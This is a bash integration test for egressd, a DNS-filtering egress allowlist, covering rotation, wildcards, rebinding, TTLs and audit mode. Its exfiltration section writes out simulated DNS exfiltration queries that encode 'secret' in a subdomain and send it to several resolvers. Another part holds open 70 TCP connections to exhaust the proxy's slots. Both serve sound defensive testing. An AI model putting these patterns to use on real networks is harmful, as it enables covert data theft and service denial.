#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# The DNS-aware allowlist (issue 8): the workload's DNS goes through
# egressd's proxy, which answers only allowed names, never forwards the
# others, and learns the addresses of every answer with its TTL.
#   - rotation: an allowed name moves to a new address; a new connection
#     to it works without restarting egressd;
#   - exfiltration: a name not allowed gets REFUSED and never reaches the
#     lab's dnsmasq, over UDP and TCP, through the resolver, a hard-coded
#     server address and a loopback stub address;
#   - wildcards, CNAME chains, the rebinding guard, TTL expiry that cuts
#     no established stream, a truncated answer retried over TCP,
#     --cgroup self, audit mode suggesting names, --no-dns-proxy.

. "$(dirname "$0")/../lib/lab.sh"

lab_init
lab_require_egressd
lab_up
command -v dig >/dev/null || lab_skip "dig not installed (bind9-dnsutils)"

# Host-side addresses the names point at (the TCP 80 server answers on all).
lab_add_host_addr 198.51.100.40 198.51.100.41 198.51.100.42 198.51.100.43 \
	198.51.100.44 198.51.100.45 198.51.100.46
lab_dns_add 'host-record=rot.test,198.51.100.40' \
	'host-record=a.wild.test,198.51.100.42' 'host-record=a.b.wild.test,198.51.100.43' \
	'host-record=wild.test,198.51.100.44' 'host-record=evilwild.test,198.51.100.45' \
	'host-record=x.ttl.test,198.51.100.46' 'host-record=x.priv.test,10.9.9.9' \
	'host-record=exact.priv.test,10.9.9.8' 'cname=c.cwild.test,other.test'
for i in $(seq 100 139); do
	lab_dns_add "host-record=big.test,198.51.100.$i"
done
lab_start_servers
# A TCP echo server for the long-lived stream of the TTL case.
lab_bg echo7777 "$LAB_HOST" socat TCP6-LISTEN:7777,fork,reuseaddr,ipv6only=0 EXEC:cat
lab_wait_listen echo7777 "$LAB_LAST_PID" "$LAB_HOST" t 7777 1

# The workload: resolve with the system resolver, connect, read.
cat >"$LAB_DIR/w.py" <<'EOF'
import socket, sys, time

def resolve(name):
    try:
        return sorted(set(a[4][0] for a in socket.getaddrinfo(name, 80, socket.AF_INET,
                                                             socket.SOCK_STREAM)))
    except OSError as e:
        return "ERR:" + str(e.errno)

def tcp(addr, port=80):
    s = socket.socket()
    s.settimeout(2)
    try:
        s.connect((addr, port))
        return "ok" if s.recv(16).startswith(b"ok") else "noanswer"
    except PermissionError:
        return "EPERM"
    except OSError as e:
        return "ERR:" + e.__class__.__name__
    finally:
        s.close()

cmd = sys.argv[1]
if cmd == "get":  # get NAME: resolve, then connect to every address
    r = resolve(sys.argv[2])
    print("resolve", sys.argv[2], r)
    if isinstance(r, list):
        for a in r:
            print("connect", a, tcp(a))
elif cmd == "connect":
    print("connect", sys.argv[2], tcp(sys.argv[2]))
elif cmd == "count":
    r = resolve(sys.argv[2])
    print("count", sys.argv[2], len(r) if isinstance(r, list) else r)
elif cmd == "ttl":  # a stream that outlives its address's expiry
    name, wait = sys.argv[2], float(sys.argv[3])
    addr = resolve(name)[0]
    s = socket.create_connection((addr, 7777), timeout=2)
    s.sendall(b"one"); print("stream before", s.recv(16).decode())
    time.sleep(wait)
    s.sendall(b"two"); print("stream after", s.recv(16).decode())
    n = socket.socket(); n.settimeout(2)
    try:
        n.connect((addr, 7777)); print("new after ok")
    except PermissionError:
        print("new after EPERM")
    except OSError as e:
        print("new after ERR:" + e.__class__.__name__)
EOF
chmod 0644 "$LAB_DIR/w.py"
PY=/usr/bin/python3
W=("$PY" "$LAB_DIR/w.py")
EG=(run --user nobody)

lab_section "an allowed name resolves through the proxy and is reachable"
lab_egressd "${EG[@]}" --allow-domains allowed.test -- "${W[@]}" get allowed.test
expect_fgrep "$LAB_OUT" "resolve allowed.test ['198.51.100.10']" "allowed.test resolves"
expect_fgrep "$LAB_OUT" "connect 198.51.100.10 ok" "and its address answers"
expect_grep "$LAB_ERR" "DNS through egressd's proxy" "the startup line names the proxy"

lab_section "rotation: the name moves; a new connection follows without a restart"
# rot.test is 198.51.100.40 at start.  While the workload runs, the lab
# moves it to .41 (dnsmasq restarted with the new record); the workload's
# second lookup goes through the proxy, which learns .41.
cat >"$LAB_DIR/rot.sh" <<EOF
"$PY" "$LAB_DIR/w.py" get rot.test
touch "$LAB_WORK/ready"
i=0
while [ ! -e "$LAB_WORK/moved" ] && [ \$i -lt 150 ]; do sleep 0.1; i=\$((i + 1)); done
"$PY" "$LAB_DIR/w.py" get rot.test
EOF
chmod 0644 "$LAB_DIR/rot.sh"
rm -f "$LAB_WORK/ready" "$LAB_WORK/moved"
(
	for _ in $(seq 150); do
		[ -e "$LAB_WORK/ready" ] && break
		sleep 0.1
	done
	sed -i 's/host-record=rot.test,198.51.100.40/host-record=rot.test,198.51.100.41/' \
		"$LAB_DIR/dnsmasq.conf"
	kill "$LAB_DNS_PID"
	lab_wait 5 "old dnsmasq to exit" lab_gone "$LAB_DNS_PID"
	lab_start_dns
	touch "$LAB_WORK/moved"
) >"$LAB_DIR/rotator.log" 2>&1 &
ROTATOR=$!
lab_egressd "${EG[@]}" --allow-domains rot.test -- sh "$LAB_DIR/rot.sh"
wait "$ROTATOR"
LAB_DNS_PID=$(for p in $(ip netns pids "$LAB_HOST"); do
	[ "$(cat /proc/"$p"/comm 2>/dev/null)" = dnsmasq ] && echo "$p"; done | head -n1)
expect_fgrep "$LAB_OUT" "resolve rot.test ['198.51.100.40']" "rot.test is .40 at first"
expect_fgrep "$LAB_OUT" "resolve rot.test ['198.51.100.41']" "then the lab moves it to .41"
expect_fgrep "$LAB_OUT" "connect 198.51.100.41 ok" "and a new connection to .41 works, with no restart"
lab_run_in client "${LAB_NOBODY_CMD[@]}" "${W[@]}" connect 198.51.100.41
expect_fgrep "$LAB_OUT" "connect 198.51.100.41 ok" "(control: .41 answers without egressd)"
lab_egressd "${EG[@]}" --allow-domains allowed.test -- "${W[@]}" connect 198.51.100.41
expect_fgrep "$LAB_OUT" "connect 198.51.100.41 EPERM" "(control: .41 is not allowed unless learned)"

lab_section "exfiltration: names not allowed never reach the resolver"
lab_run_in client dig +short +tries=1 +time=2 @"$LAB_RESOLVER4" ctl.exfil.test
if lab_dns_was_asked ctl.exfil.test; then
	lab_ok "(control: without egressd, dnsmasq logs the query)"
else
	lab_fail "(control: without egressd, dnsmasq logs the query)"
fi
cat >"$LAB_DIR/exfil.sh" <<EOF
for q in "u1 @$LAB_RESOLVER4" "t1 +tcp @$LAB_RESOLVER4" "u2 @$LAB_OTHER4" "t2 +tcp @$LAB_OTHER4" \
	"u3 @8.8.8.8" "u4 @127.0.0.53" "t4 +tcp @127.0.0.53" "u6 @$LAB_RESOLVER6" "u7 @2001:4860::8888"; do
	set -- \$q
	n=\$1; shift
	echo "\$n \$(dig +tries=1 +time=2 "\$@" c2VjcmV0-\$n.exfil.test | sed -n 's/.*status: \([A-Z]*\).*/\1/p')"
done
EOF
chmod 0644 "$LAB_DIR/exfil.sh"
lab_egressd "${EG[@]}" --allow-domains allowed.test -- sh "$LAB_DIR/exfil.sh"
for n in u1 t1 u2 t2 u3 u4 t4 u6 u7; do
	expect_grep "$LAB_OUT" "^$n REFUSED$" "query $n is answered REFUSED by the proxy"
	if lab_dns_was_asked "c2VjcmV0-$n.exfil.test"; then
		lab_fail "query $n never reaches dnsmasq" "dnsmasq logged c2VjcmV0-$n.exfil.test"
	else
		lab_ok "query $n never reaches dnsmasq"
	fi
done
expect_grep "$LAB_ERR" 'blocked DNS dig\[[0-9]+\] -> c2vjcmv0-u1\.exfil\.test A: name not in allowlist' \
	"the deny line names the process, the name and the type"
expect_grep "$LAB_ERR" 'blocked DNS dig\[[0-9]+\] -> c2vjcmv0-t1\.exfil\.test A: name not in allowlist' \
	"over TCP too"
lab_egressd "${EG[@]}" --allow-domains allowed.test --dns-deny-rcode nxdomain -- \
	dig +tries=1 +time=2 denied.test
expect_grep "$LAB_OUT" "status: NXDOMAIN" "--dns-deny-rcode nxdomain answers NXDOMAIN"
lab_egressd "${EG[@]}" --allow-domains allowed.test -- dig +tries=1 +time=2 allowed.test ANY
expect_grep "$LAB_OUT" "status: REFUSED" "ANY is refused even for an allowed name"
lab_egressd "${EG[@]}" --allow-domains allowed.test -- dig +tries=1 +time=2 allowed.test TXT
expect_grep "$LAB_OUT" "status: (NOERROR|NXDOMAIN)" "other types for an allowed name are forwarded"

lab_section "wildcards: *.wild.test is every name below wild.test, not wild.test"
for n in a.wild.test a.b.wild.test; do
	lab_egressd "${EG[@]}" --allow-domains '*.wild.test' -- "${W[@]}" get "$n"
	expect_grep "$LAB_OUT" "^connect 198\.51\.100\.4[23] ok" "$n resolves and is reachable"
done
for n in wild.test evilwild.test; do
	lab_egressd "${EG[@]}" --allow-domains '*.wild.test' -- "${W[@]}" get "$n"
	expect_grep "$LAB_OUT" "^resolve $n ERR" "$n is refused"
done
lab_egressd "${EG[@]}" --allow-domains '*.wild.test' -- "${W[@]}" connect 198.51.100.45
expect_fgrep "$LAB_OUT" "connect 198.51.100.45 EPERM" "evilwild.test's address was never learned"
lab_egressd "${EG[@]}" --no-dns-proxy --allow-domains '*.wild.test' -- true
expect_rc 125 "a wildcard without the proxy is refused"
expect_grep "$LAB_ERR" 'ERROR: \*\.wild\.test: a wildcard needs the DNS proxy' "and says why"

lab_section "a learned address keeps the entry's port limit"
lab_egressd "${EG[@]}" --allow-domains '*.wild.test:8080' -- "${W[@]}" get a.wild.test
expect_fgrep "$LAB_OUT" "connect 198.51.100.42 EPERM" "a.wild.test (allowed on 8080 only) is refused on port 80"
expect_grep "$LAB_ERR" '198\.51\.100\.42:80/tcp \(a\.wild\.test\): port not allowed' \
	"the deny line names the learned name and the reason"
lab_egressd "${EG[@]}" --allow-domains '*.wild.test:8080' -- sh -c \
	"$PY $LAB_DIR/w.py get a.wild.test >/dev/null; $PY -c 'import socket; s=socket.create_connection((\"198.51.100.42\", 8080), 2); print(\"8080\", s.recv(8).decode().strip())'"
expect_fgrep "$LAB_OUT" "8080 ok" "and reachable on 8080"

lab_section "a CNAME chain from an allowed name is followed"
lab_egressd "${EG[@]}" --allow-domains '*.cwild.test' -- "${W[@]}" get c.cwild.test
expect_fgrep "$LAB_OUT" "connect $LAB_OTHER4 ok" "c.cwild.test -> other.test: its address is learned"

lab_section "rebinding guard: a wildcard name's private answer is not learned"
lab_egressd "${EG[@]}" --allow-domains '*.priv.test' -- sh -c "$PY $LAB_DIR/w.py get x.priv.test"
expect_fgrep "$LAB_OUT" "connect 10.9.9.9 EPERM" "10.9.9.9 (wildcard answer) is not allowed"
expect_grep "$LAB_ERR" 'x\.priv\.test -> 10\.9\.9\.9 not learned' "egressd says it stripped it"
lab_egressd "${EG[@]}" --allow-domains '*.priv.test' --allow-private-answers -- \
	sh -c "$PY $LAB_DIR/w.py get x.priv.test"
expect_no_grep "$LAB_ERR" 'not learned' "--allow-private-answers learns it"

lab_section "TTL: after expiry a new connection is refused, an open stream keeps flowing"
lab_egressd "${EG[@]}" --allow-domains '*.ttl.test' --min-ttl 1 --max-ttl 1 -- \
	"${W[@]}" ttl x.ttl.test 3
expect_fgrep "$LAB_OUT" "stream before one" "the stream works"
expect_fgrep "$LAB_OUT" "stream after two" "the stream still works after the address expired"
expect_fgrep "$LAB_OUT" "new after EPERM" "a new connection to the expired address is refused"

lab_section "a truncated UDP answer is retried over TCP"
lab_egressd "${EG[@]}" --allow-domains big.test -- "${W[@]}" count big.test
expect_fgrep "$LAB_OUT" "count big.test 40" "all 40 addresses arrive"

lab_section "--cgroup self: egressd's own upstream queries are not redirected into itself"
SELF=$LAB_CG2/egressd-self-$LAB_ID
mkdir "$SELF" || lab_die "cannot create $SELF"
lab_register_cgroup "$SELF"
SREL=${SELF#"$LAB_CG2"}
lab_run_in client sh -c 'echo $$ >"/sys/fs/cgroup$1/cgroup.procs" && shift && exec "$@"' sh \
	"$SREL" "$EGRESSD" "${EG[@]}" --cgroup self --allow-domains '*.wild.test' -- \
	"${W[@]}" get a.wild.test
expect_fgrep "$LAB_OUT" "connect 198.51.100.42 ok" "a.wild.test resolves and connects under --cgroup self"

lab_section "held TCP connections cannot lock TCP DNS out"
cat >"$LAB_DIR/hold.py" <<'EOF2'
import socket, subprocess
held = []
for i in range(70):  # more than the proxy's 64 connection slots
    s = socket.create_connection(("198.51.100.1", 53), timeout=2)
    held.append(s)
out = subprocess.run(["dig", "+tcp", "+tries=1", "+time=3", "+short", "allowed.test"],
                     capture_output=True, text=True).stdout
print("tcp-answer", out.strip())
EOF2
chmod 0644 "$LAB_DIR/hold.py"
lab_egressd "${EG[@]}" --allow-domains allowed.test -- "$PY" "$LAB_DIR/hold.py"
expect_fgrep "$LAB_OUT" "tcp-answer 198.51.100.10" "with 70 idle connections held, a new TCP query is answered"

lab_section "a dead upstream fails DNS closed: SERVFAIL, never a pass-through"
lab_start_blackhole 198.51.100.30 5353
lab_egressd "${EG[@]}" --resolver 198.51.100.30:5353 --allow-domains '*.wild.test' -- \
	dig +tries=1 +time=9 a.wild.test
expect_grep "$LAB_OUT" "status: SERVFAIL" "the upstream never answers: the workload gets SERVFAIL"
expect_grep "$LAB_ERR" "DNS proxy: upstream failed for a\.wild\.test" "and egressd says so"

lab_section "audit mode suggests names"
lab_egressd "${EG[@]}" --audit --allow-domains "" -- "${W[@]}" get allowed.test
expect_fgrep "$LAB_OUT" "connect 198.51.100.10 ok" "audit passes everything"
expect_grep "$LAB_ERR" 'audit: would block DNS .* allowed\.test A' "the lookup is reported"
expect_grep "$LAB_ERR" 'allow-domains "allowed\.test"' "the suggestion is the name"

lab_section "--no-dns-proxy: DNS goes to the resolver as before"
lab_egressd "${EG[@]}" --no-dns-proxy --allow-domains allowed.test -- dig +short +tries=1 denied.test
expect_fgrep "$LAB_OUT" "$LAB_DENIED4" "any name resolves (the documented trade-off)"
expect_grep "$LAB_ERR" 'no-dns-proxy: names unfiltered' "the startup line says so"

lab_finish
